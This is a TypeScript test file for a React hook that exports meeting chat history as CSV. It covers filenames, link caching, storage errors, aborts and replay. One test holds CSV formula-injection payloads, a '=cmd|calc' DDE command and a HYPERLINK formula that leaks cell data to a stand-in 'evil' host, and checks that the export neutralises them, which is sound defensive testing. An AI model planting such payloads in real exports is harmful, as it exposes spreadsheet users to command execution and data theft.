import { act, renderHook, waitFor } from '@testing-library/react';
import type { ReactNode } from 'react';
import { describe, expect, it } from 'vitest';
import { createLocalMeeting } from '@natter/core/testing';
import { ChatProvider, useChatExport } from './index';
import {
  chats,
  csv,
  setCsv,
  base,
  state,
  readBlob,
  saved,
  setup,
  datedNames,
  installExportFixtures,
} from '../test/exportServer';

installExportFixtures();

describe('useChatExport', () => {
  it('downloads the dump with progress and saves "Chat <date>.csv"; the link is cached until it expires', async () => {
    const { result } = setup();
    const statuses: string[] = [];
    await act(async () => {
      const done = result.current.download();
      statuses.push(result.current.status);
      await done;
    });
    expect(result.current.status).toBe('done');
    expect(result.current.progress?.loaded).toBe(new TextEncoder().encode(csv).length);
    expect(result.current.progress?.total).toBe(result.current.progress?.loaded);
    expect(saved).toHaveLength(1);
    // Not `chat-sess-1.csv`: a name a person recognises in their downloads folder.
    expect(datedNames('Chat')).toContain(saved[0]?.name);
    const text = await readBlob(saved[0]?.blob);
    expect(text?.split(/\r?\n/)[0]).toBe(
      'id,participantId,sessionId,meetingId,displayName,pinned,isEdited,payloadType,payload,createdAt',
    );
    expect(text).toContain('"hello, ""world"""');

    await act(() => result.current.download());
    expect(state.apiCalls).toBe(1);
    expect(state.storageCalls).toBe(2);
  });

  it('names the file after the meeting’s title (meeting.meta), safe on every OS', async () => {
    const meeting = createLocalMeeting({ seed: 5, history: 3, latencyMs: 1 });
    chats.push(meeting.chat);
    const titled = { ...meeting, meta: { meetingTitle: 'Q3: plan / review?' } };
    const wrapper = ({ children }: { children: ReactNode }) => (
      <ChatProvider
        meeting={titled}
        replay={{ endpoint: `${base}/api/chat-replay`, sessionId: 'sess-1' }}
      >
        {children}
      </ChatProvider>
    );
    const { result } = renderHook(() => useChatExport(), { wrapper });
    await act(() => result.current.download());
    expect(datedNames('Q3_ plan _ review_ chat')).toContain(saved[0]?.name);

    // An explicit title wins; a translated name comes as a function of the title and the day.
    const { result: named } = renderHook(() => useChatExport({ meetingName: '  Team standup ' }), {
      wrapper,
    });
    await act(() => named.current.download({ filename: (m, day) => `${m} ${day}` }));
    expect(datedNames('Team standup')).toContain(saved[1]?.name);
  });

  it('neutralises formulas in the provider’s CSV before saving it, row for row', async () => {
    const kit = csv;
    // What RealtimeKit or Dyte storage may hold: cells typed by participants, verbatim.
    setCsv(
      [
        'id,participantId,sessionId,meetingId,displayName,pinned,isEdited,payloadType,payload,createdAt',
        'm1,p1,sess-1,meet-1,=cmd|calc,false,false,TEXT_MESSAGE,"=HYPERLINK(""https://evil/?""&A2,""Open"")",2026-01-01T10:00:00Z',
        'm2,p2,sess-1,meet-1,Grace,false,false,TEXT_MESSAGE,\u00a0＝1+1,2026-01-01T10:01:00Z',
        'm3,p2,sess-1,meet-1,Grace,false,false,TEXT_MESSAGE,plain,2026-01-01T10:02:00Z',
      ].join('\n'),
    );
    try {
      const { result } = setup();
      await act(() => result.current.download());
      const lines = (await readBlob(saved[0]?.blob)).split(/\r\n/);
      expect(lines).toHaveLength(5);
      expect(lines[4]).toBe('');
      expect(lines[1]).toContain(`'=cmd|calc`);
      expect(lines[1]).toContain(`"'=HYPERLINK(""https://evil/?""&A2,""Open"")"`);
      expect(lines[2]).toContain(`'\u00a0＝1+1`);
      expect(lines[3]).toContain(',plain,');
    } finally {
      setCsv(kit);
    }
  });

  it('asks for a new link once the cached one is within the safety margin of its expiry', async () => {
    state.expiresInMs = 5_000; // inside the 30 s margin: stale at once
    const { result } = setup();
    await act(() => result.current.download());
    await act(() => result.current.download());
    expect(state.apiCalls).toBe(2);
    expect(result.current.status).toBe('done');
  });

  it('gets a fresh link once when storage answers 403, then succeeds', async () => {
    state.storageMode = 'forbidden-once';
    const { result } = setup();
    await act(() => result.current.download());
    expect(result.current.status).toBe('done');
    expect(state.apiCalls).toBe(2);
    expect(saved).toHaveLength(1);
  });

  it('fails clearly after one refresh when storage keeps refusing', async () => {
    state.storageMode = 'forbidden';
    const { result } = setup();
    await act(() => result.current.download());
    expect(result.current.status).toBe('error');
    expect(result.current.error?.code).toBe('storage-forbidden');
    expect(result.current.error?.message.length).toBeGreaterThan(10);
    expect(state.apiCalls).toBe(2);
    expect(state.storageCalls).toBe(2);
    expect(saved).toHaveLength(0);
  });

  it('names a network or CORS failure in its error', async () => {
    state.deadUrl = true;
    const { result } = setup();
    await act(() => result.current.download());
    expect(result.current.status).toBe('error');
    expect(result.current.error?.code).toBe('network');
    expect(result.current.error?.message).toMatch(/CORS|network/i);
  });

  it('aborts a download under way and saves nothing', async () => {
    state.storageMode = 'slow';
    const { result } = setup();
    let done: Promise<void> = Promise.resolve();
    act(() => {
      done = result.current.download();
    });
    await waitFor(() => expect(result.current.status).toBe('downloading'));
    act(() => result.current.abort());
    await act(() => done);
    expect(result.current.status).toBe('idle');
    expect(result.current.error?.code).toBe('aborted');
    expect(saved).toHaveLength(0);
  });

  it('loads the dump as messages for a read-only replay', async () => {
    const { result } = setup();
    let loaded: Awaited<ReturnType<typeof result.current.load>> | undefined;
    await act(async () => {
      loaded = await result.current.load();
    });
    expect(loaded?.errors).toEqual([]);
    expect(loaded?.messages.map((m) => [m.id, m.type === 'text' && m.message, m.pinned])).toEqual([
      ['m1', 'hello, "world"', true],
      ['m2', 'line one\nline two', false],
    ]);
    expect(result.current.status).toBe('done');
  });

  it('without a replay endpoint, exports the live messages in the same CSV format', async () => {
    const { result } = setup(false);
    expect(result.current.hasReplay).toBe(false);
    await act(() => result.current.download());
    expect(result.current.status).toBe('done');
    const text = await readBlob(saved[0]?.blob);
    const lines = text.trim().split(/\r?\n/);
    expect(lines[0]).toBe(
      'id,participantId,sessionId,meetingId,displayName,pinned,isEdited,payloadType,payload,createdAt',
    );
    expect(lines).toHaveLength(4);
    expect(datedNames('Chat')).toContain(saved[0]?.name);
  });
});
